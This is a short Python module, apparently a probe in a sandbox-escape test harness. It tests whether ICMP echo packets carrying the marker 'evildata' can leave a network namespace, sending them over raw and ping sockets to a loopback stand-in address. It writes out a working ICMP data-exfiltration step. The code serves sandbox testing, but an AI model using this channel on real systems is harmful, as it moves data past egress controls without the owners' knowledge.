"""Sends ICMP, by raw and by ping sockets, to the host and beyond: a way to carry data out.

layer: net namespace
control: in a throw-away user and net namespace the loopback answers a raw echo request
"""

CONTROL = "unshare -Urn"
CONTROL_SHELL = 'ip link set lo up && ip addr add 192.0.2.77/32 dev lo && exec "$@"'


def attack(a):
    def checksum(data):
        total = sum(struct.unpack(f"!{len(data) // 2}H", data))
        total = (total >> 16) + (total & 0xffff)
        return ~(total + (total >> 16)) & 0xffff
    body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"evildata"
    packet = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        def call():
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as c:
                c.settimeout(0.5)
                c.sendto(packet, ("192.0.2.77", 0))
                for _ in range(3):
                    if b"evildata" in c.recv(200):
                        print("answered")
        attempt(call)


def escaped(s, r):
    return "answered" in r.out
